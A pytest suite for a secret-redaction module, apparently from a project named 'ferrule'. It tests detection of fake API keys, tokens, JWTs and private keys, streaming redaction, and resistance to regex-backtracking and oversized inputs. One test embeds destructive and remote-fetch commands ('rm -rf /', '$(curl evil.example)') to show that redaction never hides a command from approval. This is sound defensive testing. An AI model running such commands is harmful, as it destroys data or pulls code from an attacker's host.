"""Well-known shapes and patterns of one's own: what they take out, and what they leave alone."""

from __future__ import annotations

import base64
import hashlib
import json
import random
import time
import uuid

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ferrule.errors import SettingsError
from ferrule.model.persistence import RedactionPattern, RedactionSettings
from ferrule.runtime.redaction import patterns as well_known
from ferrule.runtime.redaction.redactor import KnownSecrets
from tests import ROOT

SHAPES = KnownSecrets(RedactionSettings(), {})
LETTERS = "Zq8WvTn3Xk5RjHm2Pb7LcYd4FgSs9Aa1"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
PEM = "-----BEGIN RSA PRIVATE KEY-----\n" + "MIIEowIBAAKCAQEAx9qZ3vT1\n" * 20 + "-----END RSA PRIVATE KEY-----"
TOKENS = {
    "openai_key": f"sk-{LETTERS}{LETTERS}",
    "openai_key ": f"sk-proj-{LETTERS}_{LETTERS}-{LETTERS}",
    "openai_key  ": f"sk-ant-api03-{LETTERS}-{LETTERS}AA",
    "stripe_key": f"sk_live_{LETTERS}",
    "github_token": f"ghp_{LETTERS}abcd",
    "github_token ": f"gho_{LETTERS}abcd",
    "github_token  ": f"github_pat_{LETTERS}_{LETTERS}",
    "gitlab_token": f"glpat-{LETTERS[:20]}",
    "ferrule_key": f"frl_0123abcd_{LETTERS}{LETTERS[:12]}",
    "slack_token": f"xoxb-1234567890-{LETTERS}",
    "aws_key_id": "AKIAIOSFODNN7EXAMPLE",
    "aws_key_id ": "ASIAIOSFODNN7EXAMPLE",
    "google_key": "AIzaSyA-1234567890abcdefghijklmnopqrstu",
    "jwt": JWT,
    "private_key": PEM,
    "private_key ": PEM.replace("RSA ", ""),
    "private_key  ": PEM.replace("\n", "\\n"),
    "private_key   ": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUA",
}


@pytest.mark.parametrize("name", TOKENS)
def test_well_known_tokens_are_found(name: str) -> None:
    token = TOKENS[name]
    for text in (f"key={token} ", f"({token})", f'{{"key":"{token}"}}', f"first\n{token}\nlast", f"a%3D{token}&b"):
        cleaned, found = SHAPES.text(text)
        assert found == (f"pattern:{name.strip()}",), text
        assert token not in cleaned
        assert cleaned.replace("[REDACTED]", token) == text
    assert SHAPES.text(json.dumps(f"line\n{token}"))[1]
    assert SHAPES.value({"a": [f"x {token}"]})[0] == {"a": ["x [REDACTED]"]}


def test_nothing_hides_between_the_lines_of_a_key() -> None:
    """Whoever approves a command must see it, however it is wrapped."""
    head, end = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
    for hidden in ("; rm -rf /;", "\nrm -rf / --no-preserve-root\n", "$(curl evil.example)", "`x` && y | z"):
        assert hidden in SHAPES.text(f"echo {head}{hidden}{end}")[0]


def test_keys_with_headers_are_found_whole() -> None:
    head = "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123456789ABCDEF\n\n"
    body = "MIIEowIBAAKCAQEAx9qZ3vT1MIIEowIBAAKCAQEAx9qZ3vT1\n" * 4 + "x9qZ==\n"
    assert SHAPES.text(f"<{head}{body}-----END RSA PRIVATE KEY----->")[0] == "<[REDACTED]>"
    pgp = (
        "-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v1\n\n"
        + body
        + "=abcd\n-----END PGP PRIVATE KEY BLOCK-----"
    )
    assert "x9qZ3vT1" not in SHAPES.text(pgp)[0]


def test_of_a_bearer_token_the_word_stays() -> None:
    token = "1f2e3d4c5b6a79881f2e3d4c5b6a7988"
    assert SHAPES.text(f"Authorization: Bearer {token}\r\n")[0] == "Authorization: Bearer [REDACTED]\r\n"
    assert SHAPES.text(f"authorization=bearer+{token}&x=1")[0] == "authorization=bearer+[REDACTED]&x=1"
    assert SHAPES.text(f"Bearer {JWT}")[0] == "Bearer [REDACTED]"


INNOCENT = [
    str(uuid.UUID(int=0x1234567890ABCDEF1234567890ABCDEF)),
    "sha256:" + hashlib.sha256(b"x").hexdigest(),
    "inv_01jq8zv6m3k9x2t4c5b7n8p0qr",
    "res_01jq8zv6m3k9x2t4c5b7n8p0qr.1",
    "https://example.com/task-force/risk-based?sk-ip=1&eyJ=2#AKIA",
    "ferrule://results/inv_01jq8zv6m3k9x2t4c5b7n8p0qr/0",
    "data:image/png;base64," + base64.b64encode(random.Random(1).randbytes(60_000)).decode(),
    base64.urlsafe_b64encode(random.Random(2).randbytes(60_000)).decode(),
    random.Random(3).randbytes(30_000).hex(),
    "Bearer authentication is described in RFC 6750; a bearer of bad news; Bearer tokens.",
    "the desk-2024-edition, a task-oriented-programme-2024, risk-management-framework-2",
    "ASIA AND AFRICA; AKIAlike words; xoxo, love; sk-learn; skill-based; eyJust",
    "-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJ\n-----END CERTIFICATE-----",
    "-----BEGIN PUBLIC KEY-----\nMIIDdzCCAl+gAwIBAgIEAgAAuTANBgkq\n-----END PUBLIC KEY-----",
    "arn:aws:iam::123456789012:role/S3Access 4111 1111 1111 1111 2026-03-01T10:00:00.000Z",
    "eyJhbGciOiJIUzI1NiJ9 is only a header. eyJ0.eyJ0.x",
]


@pytest.mark.parametrize("text", INNOCENT, ids=range(len(INNOCENT)))
def test_ids_digests_addresses_and_pictures_are_left_alone(text: str) -> None:
    assert SHAPES.text(text) == (text, ())
    assert SHAPES.value({text: [text]})[1] == ()


def test_our_own_guides_are_left_alone() -> None:
    for page in sorted((ROOT / "docs").rglob("*.md")):
        text = page.read_text(encoding="utf-8")
        if page.name != "redaction.md":
            assert SHAPES.text(text)[1] == (), page


@given(st.text(max_size=200))
def test_any_text_without_a_token_is_the_very_same(text: str) -> None:
    assert SHAPES.text(text)[0] is text


def test_shapes_are_found_beside_few_and_many_secrets() -> None:
    many = {f"S{number}": f"secret-number-{number}" for number in range(120)}
    for known in ({}, {"S": "my-own-secret"}, many):
        redactor = KnownSecrets(RedactionSettings(secrets_env=tuple(known)), known)
        for also in ((), ("a-sensitive-value",), tuple(many.values())):
            cleaned, found = redactor.text(f"{JWT} my task-force", also=also)
            assert cleaned == "[REDACTED] my task-force"
            assert found == ("pattern:jwt",)
            assert redactor.value({"a": [JWT]}, also=also)[0] == {"a": ["[REDACTED]"]}
        redactor.add("LATE", "a-late-secret")
        assert redactor.text(f"{JWT} a-late-secret")[0] == "[REDACTED] [REDACTED]"
        assert not redactor.may_hold(b"a task-force and a risk-based desk-1")


def test_a_shape_is_found_at_the_edges_of_every_text_of_a_value() -> None:
    """Texts of a value are looked at as bytes in a row first, with bytes of any kind between them."""
    for length in range(0, 300):
        for token in (TOKENS["aws_key_id"], TOKENS["google_key"]):
            value = {"x" * (length % 40): [token, length, "y" * length, token], "z": [length] * 3}
            cleaned, found = SHAPES.value(value)
            assert found
            assert token not in str(cleaned)
    assert SHAPES.value([TOKENS["aws_key_id"], 65])[1]


def test_shapes_can_be_left_alone() -> None:
    known = KnownSecrets(RedactionSettings(well_known=False), {})
    assert known.is_idle
    assert known.text(TOKENS["jwt"]) == (TOKENS["jwt"], ())


OWN = KnownSecrets(
    RedactionSettings(
        patterns=(
            RedactionPattern("customer", r"cust-[0-9]{6}"),
            RedactionPattern("mail", r"[\w.+-]+@[\w-]+\.[\w.]+"),
            RedactionPattern("card", r"\b(?:\d[ -]?){15}\d\b"),
            RedactionPattern("name", r"(?i)name: *[a-zäöü]+"),
        )
    ),
    {},
)


def test_patterns_of_ones_own_are_told_by_name() -> None:
    cleaned, found = OWN.text("cust-123456 wrote from ädä@example.org; NAME: Müller; card 4111 1111 1111 1111.")
    assert cleaned == "[REDACTED] wrote from [REDACTED]; [REDACTED]; card [REDACTED]."
    assert set(found) == {"pattern:customer", "pattern:mail", "pattern:card", "pattern:name"}
    value, found = OWN.value({"cust-123456": {"mail": "ada@example.org", "n": 1}})
    assert value == {"[REDACTED]": {"mail": "[REDACTED]", "n": 1}}
    assert OWN.text("nothing here, not even cust-12345")[1] == ()


PIECES = st.lists(
    st.text(max_size=12)
    | st.sampled_from([*TOKENS.values(), "ada@example.org", "cust-123456", "4111 1111 1111 1111", "name: Müller", JWT]),
    max_size=6,
)


@settings(max_examples=200, deadline=None)
@given(PIECES, st.lists(st.integers(0, 1500), max_size=10), st.sampled_from([SHAPES, OWN]))
def test_however_a_stream_is_cut_patterns_match_the_same(
    pieces: list[str], cuts: list[int], known: KnownSecrets
) -> None:
    data = " ".join(pieces).encode("utf-8", "surrogatepass")
    expected = known.text(data.decode("utf-8", "surrogatepass"))[0]
    stream, passed, last = known.stream(), b"", 0
    for cut in [*sorted(cut for cut in cuts if cut < len(data)), len(data)]:
        passed += stream.feed(data[last:cut])
        last = cut
    assert (passed + stream.finish()).decode("utf-8", "surrogatepass") == expected


def test_a_stream_with_patterns_holds_back_no_more_than_a_window() -> None:
    stream = OWN.stream()
    sent = passed = 0
    for number in range(3000):
        line = f"{number}: a line of a long report\n".encode()
        sent += len(line)
        passed += len(stream.feed(line))
        assert sent - passed <= 4096 + 100
    assert passed + len(stream.finish()) == sent


def test_with_shapes_alone_a_stream_goes_on_at_once() -> None:
    stream = SHAPES.stream()
    assert stream.feed(b"one line\n") == b"one line\n"
    assert stream.feed(b"sk-12") == b""
    assert stream.feed(b" was no key\n") == b"sk-12 was no key\n"


def test_a_token_that_does_not_end_does_not_come_through() -> None:
    stream = SHAPES.stream()
    passed = b"".join(stream.feed(b"Bearer " + b"a1" * 50 if not number else b"a1" * 50) for number in range(200))
    passed += stream.feed(b" and then more") + stream.finish()
    assert passed == b"Bearer [REDACTED] and then more"


@pytest.mark.parametrize(
    ("pattern", "word"),
    [
        ("(", "regular expression"),
        ("[z-a]", "regular expression"),
        ("x*", "empty"),
        ("", "empty"),
        ("(a+)+$", "too long"),
        (r"(\w+\s?)+:$", "too long"),
        ("(x|x)*y", "too long"),
    ],
)
def test_a_pattern_that_cannot_be_used_is_refused_by_name(pattern: str, word: str) -> None:
    with pytest.raises(SettingsError, match="'mine'") as refused:
        KnownSecrets(RedactionSettings(patterns=(RedactionPattern("mine", pattern),)), {})
    assert word in str(refused.value)


def test_two_patterns_of_one_name_are_refused() -> None:
    twice = (RedactionPattern("mine", "a1"), RedactionPattern("mine", "b2"))
    with pytest.raises(SettingsError, match="twice"):
        KnownSecrets(RedactionSettings(patterns=twice), {})


@pytest.mark.parametrize(
    "hostile",
    [
        "sk-" * 60_000,
        "sk-1" * 50_000,
        "eyJ" * 60_000,
        "eyJaaaaaaaa." * 15_000,
        "bearer+" * 30_000,
        "bearer" + "+" * 200_000,
        "-----BEGIN PRIVATE KEY-----" * 8_000,
        "-----BEGIN RSA PRIVATE KEY-----" + "A" * 200_000,
        "glpat-" * 30_000,
        "%20" * 60_000,
    ],
    ids=lambda text: text[:12],
)
def test_hostile_text_takes_no_time(hostile: str) -> None:
    started = time.process_time()
    SHAPES.text(hostile)
    stream = SHAPES.stream()
    for at in range(0, len(hostile), 5000):
        stream.feed(hostile[at : at + 5000].encode())
    stream.finish()
    assert time.process_time() - started < 5  # far more than it takes; what is caught is growth by the square


def test_a_pattern_that_takes_too_long_takes_out_the_rest() -> None:
    """Nothing hangs, and nothing slips through: fail closed."""
    hostile = ("ab" * 2000 + "@") * 250
    cleaned, found = OWN.text(hostile + " ada@example.org")
    assert "ada@example.org" not in cleaned
    assert "pattern:mail" in found


@given(st.sampled_from(well_known.OPENINGS), st.binary(max_size=300), st.binary(max_size=150))
def test_the_quick_look_at_short_texts_overlooks_no_opening(opening: bytes, before: bytes, after: bytes) -> None:
    found = well_known.find_openings(before + opening + after)
    assert (len(before), opening) in found
